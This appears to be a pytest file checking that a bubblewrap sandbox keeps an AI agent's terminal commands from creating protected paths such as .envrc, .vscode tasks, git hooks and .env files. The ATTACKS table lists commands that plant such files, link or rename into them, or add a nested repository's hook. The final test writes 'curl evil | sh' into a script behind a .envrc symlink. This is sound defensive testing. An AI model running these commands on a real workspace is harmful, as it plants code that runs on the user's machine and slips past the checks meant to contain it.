"""Protected paths that did not exist yet, created by a sandboxed command, replayed end to
end through the backend (a scripted loopback model makes the ``terminal`` call, the test
editor answers) with real bubblewrap.

Each attack leaves no such protected path in the workspace: the fixed places
(``.vscode``, ``.idea``, ``.husky``, a root ``.git``, the ``core.hooksPath`` directory) are
held by a read-only placeholder, so the write fails; the rest (``.envrc``,
``.env.production``, a nested repository, the user's globs, a hard link or a rename into a
protected name) is moved to the quarantine in acpwire's home after the command, and the
tool result and the editor's tool call say so. Placeholders are gone afterwards, also
those of a process killed mid-command, and one the user filled meanwhile stays.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.backend.harness import TERMINAL_CAPS, Rig, model_tool_result, rig, tool_call, tool_texts
from tests.backend.sandbox_rig import git_workspace, require_sandbox

pytestmark = pytest.mark.anyio

PLACEHOLDERS = (".vscode", ".idea", ".husky")


@dataclass(frozen=True)
class Attack:
    command: str
    made: tuple[str, ...]
    """What the command would have made (none of it may be left in the workspace)."""
    moved: str | None
    """What the quarantine got (None: the placeholder held, the write failed)."""


ATTACKS = {
    "new .envrc": Attack("echo x > .envrc", (".envrc",), ".envrc"),
    "new .vscode tasks": Attack(
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", (".vscode/tasks.json",), None
    ),
    "new .idea file": Attack("mkdir -p .idea && echo x > .idea/x.xml", (".idea/x.xml",), None),
    "new .env.production": Attack("echo x > .env.production", (".env.production",), ".env.production"),
    "new nested repository's hook": Attack(
        "mkdir -p sub && cd sub && git init -q && echo x > .git/hooks/pre-commit",
        ("sub/.git",),
        "sub/.git",
    ),
    "new deep .envrc": Attack("mkdir -p a/b && echo x > a/b/.envrc", ("a/b/.envrc",), "a/b/.envrc"),
    "user glob": Attack("mkdir -p conf && echo x > conf/db.secret", ("conf/db.secret",), "conf/db.secret"),
    "hard link into a protected name": Attack("echo x > notes && ln notes .env", (".env",), ".env"),
    "rename into a protected name": Attack(
        "mkdir -p d/x && echo x > d/x/config && mv d/x d/.git", ("d/.git",), "d/.git"
    ),
    "hooks directory core.hooksPath names": Attack(
        "mkdir -p .githooks && echo x > .githooks/pre-commit", (".githooks/pre-commit",), None
    ),
}  # fmt: skip
FIELDS = {"sensitive_paths": ("*.secret",)}


async def _turn(r: Rig, command: str) -> tuple[str, dict[str, Any]]:
    """One turn running ``command``: the session and the result the model was sent."""
    sid = await r.new()
    r.llm.push(tool_call("c1", "terminal", command=command))
    r.llm.push({"text": "done"})
    assert (await r.prompt(sid, "go")).stop_reason == "end_turn"
    result = json.loads(model_tool_result(r, "c1"))
    assert isinstance(result, dict)
    return sid, result


async def _run(r: Rig, command: str) -> dict[str, Any]:
    return (await _turn(r, command))[1]


def _quarantined(home: Path) -> list[Path]:
    return sorted((home / "quarantine").glob("*/*/**/*")) if (home / "quarantine").is_dir() else []


@pytest.mark.parametrize("name", ATTACKS)
async def test_a_missing_protected_path_stays_missing(tmp_path: Path, name: str) -> None:
    require_sandbox()
    attack = ATTACKS[name]
    async with rig(tmp_path, fields=FIELDS) as r:
        git_workspace(r.workspace)
        subprocess.run(["git", "-C", str(r.workspace), "config", "core.hooksPath", ".githooks"])
        r.editor.policy.answer = "allow_once"  # a danger pattern may ask: the sandbox holds
        sid, result = await _turn(r, attack.command)
        for made in attack.made:
            assert not os.path.lexists(r.workspace / made), made
        for placeholder in (*PLACEHOLDERS, ".githooks"):
            assert not (r.workspace / placeholder).exists(), placeholder
        removed = result.get("protected_paths_removed", [])
        if attack.moved is None:
            assert "Read-only file system" in str(result["output"])
            assert removed == [] and _quarantined(tmp_path / "home") == []
            return
        (entry,) = removed
        assert entry["path"] == str(r.workspace / attack.moved)
        moved = Path(entry["moved_to"])
        assert moved.is_relative_to(tmp_path / "home" / "quarantine") and moved.exists()
        assert "quarantine" in str(result["protected_paths"])
        updates = r.editor.of_kind(sid, "tool_call_update")
        (end,) = [u for u in updates if u.status in ("completed", "failed")]
        assert end.status == "failed"
        assert "moved to acpwire's quarantine" in tool_texts(end.content)


async def test_a_new_git_directory_at_a_root_that_is_no_repository(tmp_path: Path) -> None:
    require_sandbox()
    async with rig(tmp_path) as r:
        r.editor.policy.answer = "allow_once"
        result = await _run(r, "git init -q . ; echo x > .git/hooks/pre-commit; ls -a")
        assert not (r.workspace / ".git").exists()
        assert "Read-only file system" in str(result["output"])


async def test_in_the_editor_terminal_too(tmp_path: Path) -> None:
    require_sandbox()
    async with rig(tmp_path, caps=TERMINAL_CAPS) as r:
        git_workspace(r.workspace)
        r.editor.policy.answer = "allow_once"
        result = await _run(r, "echo x > .envrc; mkdir -p .vscode && echo x > .vscode/a")
        assert len(r.editor.terminals) == 1
        assert not (r.workspace / ".envrc").exists() and not (r.workspace / ".vscode").exists()
        moved = [entry["path"] for entry in result["protected_paths_removed"]]
        assert moved == [str(r.workspace / ".envrc")]


async def test_a_placeholder_the_user_filled_meanwhile_stays(tmp_path: Path) -> None:
    require_sandbox()
    async with rig(tmp_path) as r:
        git_workspace(r.workspace)
        settings = r.workspace / ".vscode" / "settings.json"
        stop = threading.Event()

        def user_writes() -> None:  # the user, outside the sandbox, while it runs
            while not stop.is_set():
                try:
                    settings.write_text('{"mine": true}')
                    return
                except OSError:
                    stop.wait(0.01)

        writer = threading.Thread(target=user_writes)
        writer.start()
        try:
            result = await _run(r, "sleep 1; ls -a .vscode")
        finally:
            stop.set()
            writer.join()
        assert settings.read_text() == '{"mine": true}'
        assert "protected_paths_removed" not in result
        assert not (r.workspace / ".idea").exists()


CRASH = textwrap.dedent(
    """
    import os, signal, sys
    from pathlib import Path
    from acpwire.sandbox.protected.guard import SandboxGuard
    guard = SandboxGuard(bwrap="bwrap", command="true", env={}, cwd=sys.argv[1], home=Path(sys.argv[2]))
    guard.survey()
    guard.start()
    os.kill(os.getpid(), signal.SIGKILL)
    """
)


async def test_placeholders_of_a_killed_backend_are_removed_by_the_next(tmp_path: Path) -> None:
    require_sandbox()
    async with rig(tmp_path) as r:
        git_workspace(r.workspace)
        (r.workspace / ".idea").mkdir()
        crashed = subprocess.run(
            [sys.executable, "-c", CRASH, str(r.workspace), str(tmp_path / "home")], check=False
        )
        assert crashed.returncode == -signal.SIGKILL
        assert (r.workspace / ".vscode").is_dir() and (r.workspace / ".husky").is_dir()
        (r.workspace / ".husky" / "pre-commit").write_text("the user's\n")  # since the crash
        await _run(r, "true")
        assert not (r.workspace / ".vscode").exists()
        assert (r.workspace / ".husky" / "pre-commit").read_text() == "the user's\n"
        assert (r.workspace / ".idea").is_dir()  # was there before: never a placeholder


async def test_the_target_of_a_dangling_protected_link_made_by_a_command(tmp_path: Path) -> None:
    require_sandbox()
    async with rig(tmp_path) as r:
        git_workspace(r.workspace)
        (r.workspace / ".envrc").symlink_to("tools/env.sh")  # shipped by the repository
        r.editor.policy.answer = "allow_once"
        result = await _run(r, "mkdir -p tools && echo 'curl evil | sh' > tools/env.sh")
        assert not os.path.lexists(r.workspace / ".envrc")
        assert [e["path"] for e in result["protected_paths_removed"]] == [
            str(r.workspace / ".envrc")
        ]
